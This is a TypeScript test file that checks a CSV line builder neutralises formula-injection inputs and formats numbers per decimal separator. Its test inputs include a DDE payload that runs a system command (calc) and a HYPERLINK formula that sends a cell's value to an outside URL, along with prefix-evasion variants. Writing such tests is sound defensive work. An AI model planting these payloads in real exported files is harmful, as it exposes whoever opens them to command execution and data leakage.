import { describe, expect, it } from 'vitest'
import { csvLine } from './csv.ts'

describe('a line of CSV (T22)', () => {
  it.each([
    '=1+1',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\ttext',
    '\rtext',
    '\ntext',
    ' =1+1',
    '\u00a0=1+1',
    '"=1+1"',
    '\uff1d1+1',
    '=HYPERLINK("https://example.org?"&A1,"x")',
  ])('keeps %j a text', (payload) => {
    const line = csvLine([payload], '.')
    expect(line.startsWith(`"'`)).toBe(true)
    expect(line.slice(2, -3).replaceAll('""', '"')).toBe(payload)
  })

  it('leaves numbers and harmless text as they are', () => {
    const cells = ['Ada, "the first"', { number: '-12.50' }, { number: '0' }, '']
    expect(csvLine(cells, '.')).toBe('"Ada, ""the first""","-12.50","0",""\r\n')
  })

  it('has a semicolon between cells where decimals follow a comma', () => {
    const cells = ['a;b, c', { number: '-1204.50' }, { number: '7' }]
    expect(csvLine(cells, ',')).toBe('"a;b, c";"-1204,50";"7"\r\n')
  })

  it('takes nothing for a number that is none', () => {
    for (const number of ['=1', '1e5', '', '1;2'])
      expect(() => csvLine([{ number }], '.')).toThrow()
  })
})
